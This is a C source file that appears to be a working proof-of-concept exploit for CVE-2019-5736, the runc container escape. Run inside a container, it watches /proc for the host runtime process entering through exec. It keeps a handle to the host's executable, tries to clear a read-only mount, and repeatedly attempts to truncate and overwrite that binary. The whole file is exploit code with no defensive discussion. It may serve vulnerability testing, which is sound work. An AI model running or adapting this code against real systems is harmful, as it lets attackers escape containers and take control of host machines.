/*
 * Waits for the runtime to come in (`exec`) and writes to its program file
 * (CVE-2019-5736): /proc/PID/exe leads to the host's file.  While it runs it
 * cannot be opened for writing, so a descriptor is kept until it has ended.
 * Is the file on a read-only mount, that is made writable first.
 */
#include <dirent.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Opens the program of a process, if that is none of the image. */
static int open_foreign(const char *pid, dev_t image)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	struct stat status;
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%.16s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0 && fstat(fd, &status) == 0 && status.st_dev != image) {
		syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr,
			sizeof(attr));
		return fd;
	}
	if (fd >= 0)
		close(fd);
	return -1;
}

static int overwrite(int fd)
{
	char path[64];
	int out = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 100000 && out < 0; i++)
		out = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
	if (out < 0 || write(out, "owned\n", 6) != 6) {
		perror("overwrite");
		return 1;
	}
	return 0;
}

/* The argument is a file that ends the search when it appears. */
int main(int argc, char **argv)
{
	struct stat own;

	if (argc != 2 || stat("/proc/self/exe", &own) < 0)
		return 1;
	puts("ready");
	fflush(stdout);
	while (access(argv[1], F_OK) < 0) {
		DIR *list = opendir("/proc");
		struct dirent *entry;

		while (list && (entry = readdir(list)) != NULL) {
			int fd = strtol(entry->d_name, NULL, 10) > 1
					 ? open_foreign(entry->d_name,
							own.st_dev)
					 : -1;

			if (fd >= 0)
				return overwrite(fd);
		}
		closedir(list);
	}
	fprintf(stderr, "overwrite: no program of the host was seen\n");
	return 1;
}
